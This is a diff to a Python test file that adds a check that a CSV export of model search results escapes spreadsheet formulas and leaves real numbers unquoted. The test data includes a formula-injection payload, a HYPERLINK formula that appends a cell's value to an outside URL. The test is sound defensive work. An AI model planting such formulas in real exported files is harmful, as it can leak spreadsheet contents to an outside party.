@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import json
 from dataclasses import replace
 from math import log10, nan
@@ -26,6 +27,18 @@ def test_the_csv_has_exactly_these_columns_and_pandas_reads_it(front: Front, tmp
     assert table["size_bytes"].tolist() == [200_000, 60_000, 20_000, 1_200_000]
     assert table["family"].tolist()[:3] == ["resnet, small"] * 3
     assert table["weight_bits"].isna().tolist() == [False, False, False, True]
+
+
+def test_no_text_is_a_formula_and_numbers_stay_numbers(front: Front, tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://x?" & A1)'
+    point = replace(
+        front.points[0], searched=(("@name", -1.5), ("kind", evil), ("+2", True), ("text", "-1.5"), ("tab", "\t=1"))
+    )
+    write_front_csv(replace(front, points=(point,), teacher=None), tmp_path / "front.csv")
+    with (tmp_path / "front.csv").open(encoding="utf-8", newline="") as file:
+        head, row = csv.reader(file)
+    assert head[-5:] == ["'@name", "kind", "'+2", "text", "tab"]
+    assert row[-5:] == ["-1.5", f"'{evil}", "True", "'-1.5", "'\t=1"]
 
 
 def test_an_empty_front_is_a_head_without_rows(front: Front, tmp_path: Path) -> None:
